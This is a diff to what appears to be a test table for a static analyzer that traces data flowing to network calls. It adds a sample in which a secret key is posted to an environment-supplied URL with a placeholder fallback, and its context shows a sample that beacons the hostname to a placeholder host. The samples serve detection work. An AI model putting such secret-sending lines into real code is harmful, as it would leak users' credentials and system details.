@@ -355,6 +355,17 @@ def parse_private_key(key):
     ],
   ],
   [
+    'an address that holds where a variable is not set',
+    `import os, requests
+def connect(secret_key):
+    requests.post(os.environ.get('OWN_URL', 'https://a.invalid'), data=secret_key)`,
+    [
+      'own.py:3 call flow environment os.environ OWN_URL > network-address requests.post https://a.invalid',
+      'own.py:3 call flow environment os.environ OWN_URL > network-send requests.post https://a.invalid',
+      'own.py:3 call flow parameter secret_key secret_key > network-send requests.post https://a.invalid',
+    ],
+  ],
+  [
     'modules that whoever runs a pasted text has imported',
     `def beacon():
     requests.post('http://a.invalid', data=socket.gethostname())`,
